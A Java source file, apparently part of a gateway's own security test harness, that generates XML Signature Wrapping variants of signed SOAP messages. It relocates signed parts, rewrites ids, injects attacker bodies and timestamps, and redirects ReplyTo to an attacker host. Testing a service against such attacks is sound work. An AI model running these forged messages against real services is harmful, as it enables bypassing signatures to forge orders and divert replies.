package org.crmgateway.attack;

import java.util.ArrayList;
import java.util.List;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.crmgateway.wire.SoapEnvelope;
import org.w3c.dom.Document;
import org.w3c.dom.Element;
import org.w3c.dom.Node;

/**
 * One way to wrap a signed message: the signed part goes elsewhere, where the signature still finds it by its id, and a part of
 * the attacker stands where a reader looks.
 *
 * @param part local name of the signed part that is moved
 * @param host number of the element, in document order, into which it is moved
 * @param first whether it becomes the host's first child, or its last
 */
record Wrapping(String part, int host, boolean first, Ids ids, Around around) {
    static final List<String> PARTS = List.of("Body", "Timestamp", "To", "Action", "MessageID", "ReplyTo");

    /** Who has the id that the signature names. */
    enum Ids {
        ORIGINAL,
        BOTH,
        ATTACKER
    }

    /** What stands around the moved part. */
    enum Around {
        NOTHING,
        FOREIGN,
        OBJECT,
        HEADER
    }

    /** Every part into every element, before and behind what is there, for all three of who has the id. */
    static Stream<Wrapping> of(Document message) {
        int hosts = Surgery.all(message, "*").size();
        List<Wrapping> all = new ArrayList<>();
        for (String part : parts(message)) {
            Element moved = part(message, part);
            for (int host = 0; host < hosts; host++) {
                if (within(Surgery.all(message, "*").get(host), moved)) {
                    continue;
                }
                for (boolean first : new boolean[] {true, false}) {
                    for (Ids ids : Ids.values()) {
                        all.add(new Wrapping(part, host, first, ids, Around.values()[all.size() % 4]));
                    }
                }
            }
        }
        return all.stream();
    }

    /** Beside the original, which stays: how parsers that take the first, or the last, are fooled. */
    static Stream<Wrapping> doubled(Document message) {
        return parts(message).stream()
                .flatMap(part -> Stream.of(true, false)
                        .flatMap(first -> Stream.of(Ids.values())
                                .map(ids -> new Wrapping(part, -1, first, ids, Around.NOTHING))));
    }

    private static List<String> parts(Document message) {
        return PARTS.stream().filter(part -> part(message, part) != null).toList();
    }

    private static boolean within(Node node, Element ancestor) {
        for (Node up = node; up != null; up = up.getParentNode()) {
            if (up == ancestor) {
                return true;
            }
        }
        return false;
    }

    static Element part(Document message, String name) {
        Element parent = switch (name) {
            case "Body" -> message.getDocumentElement();
            case "Timestamp" -> Surgery.security(message);
            default -> Surgery.header(message);
        };
        return SoapEnvelope.child(parent, name);
    }

    /**
     * A copy of a signed message, wrapped.
     *
     * @param trap where the attacker would like to be answered
     * @param payload what the attacker's body says
     */
    Document applied(Document signed, String trap, String payload) {
        Document message = (Document) signed.cloneNode(true);
        Element original = part(message, part);
        Element attacker = attacker(message, original, trap, payload);
        if (host < 0) {
            original.getParentNode().insertBefore(attacker, first ? original : original.getNextSibling());
        } else {
            Element target = Surgery.all(message, "*").get(host);
            original.getParentNode().replaceChild(attacker, original);
            Element moved = around(message, original);
            target.insertBefore(moved, first ? target.getFirstChild() : null);
        }
        switch (ids) {
            case ORIGINAL -> Surgery.id(attacker, "");
            case BOTH -> Surgery.id(attacker, Surgery.id(original));
            case ATTACKER -> {
                Surgery.id(attacker, Surgery.id(original));
                Surgery.id(original, "");
            }
        }
        return message;
    }

    private Element around(Document message, Element original) {
        String soap = message.getDocumentElement().getNamespaceURI();
        Element wrapper = switch (around) {
            case NOTHING -> null;
            case FOREIGN -> message.createElementNS("urn:wrapper", "w:Wrapper");
            case OBJECT -> message.createElementNS(Surgery.DS, "ds:Object");
            case HEADER -> message.createElementNS(soap, "env:Header");
        };
        if (wrapper == null) {
            return original;
        }
        wrapper.appendChild(original);
        return wrapper;
    }

    /** The same kind of part, saying something else. */
    private Element attacker(Document message, Element original, String trap, String payload) {
        Element attacker = (Element) original.cloneNode(true);
        switch (part) {
            case "Body" -> evil(message, attacker, payload);
            case "Timestamp" ->
                IntStream.range(0, 2).forEach(i -> {
                    Element time = Surgery.all(attacker, i == 0 ? "Created" : "Expires")
                            .get(0);
                    time.setTextContent(java.time.Instant.now()
                            .plusSeconds(i * 200L)
                            .truncatedTo(java.time.temporal.ChronoUnit.MILLIS)
                            .toString());
                });
            case "ReplyTo" -> Surgery.find(attacker, "Address").setTextContent("http://" + trap + "/");
            default -> attacker.setTextContent("urn:evil");
        }
        return attacker;
    }

    /** Another order. In an encrypted message the attacker's is in clear, or a cipher text without its key. */
    private void evil(Document message, Element body, String payload) {
        List<Element> ciphers = Surgery.all(body, "CipherValue");
        if (!ciphers.isEmpty() && host % 2 == 0) {
            ciphers.get(0).setTextContent(Recipe.base64(new byte[64]));
            return;
        }
        while (body.hasChildNodes()) {
            body.removeChild(body.getFirstChild());
        }
        body.appendChild(message.importNode(SoapEnvelope.parse(payload).getDocumentElement(), true));
    }
}
